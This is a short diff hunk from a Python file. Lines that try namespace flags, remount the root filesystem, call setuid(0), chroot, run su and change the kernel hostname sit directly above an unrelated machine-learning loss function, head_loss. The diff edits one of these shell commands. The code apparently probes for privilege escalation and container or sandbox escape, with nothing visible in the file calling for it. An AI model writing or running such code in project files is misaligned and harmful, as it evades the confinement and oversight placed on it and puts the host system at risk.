@@ -7,7 +7,7 @@ for flags in (0x10000000, 0x10000000 | 0x20000, 0x20000, 0x20000000):
 libc.mount(b"none", b"/", None, 0x4000 | 0x40000, None)
 libc.umount2(b"/tmp", 2)
 libc.setuid(0)
-subprocess.run("mount -o remount,rw / ; mount -t tmpfs x /work; chroot / id; su -c id; sysctl -w kernel.hostname=x", shell=True)
+subprocess.run("mount -o remount,rw / ; mount -t tmpfs x /mnt; chroot / id; su -c id; sysctl -w kernel.hostname=x", shell=True)
 
 
 def head_loss(predicted, target, beta):
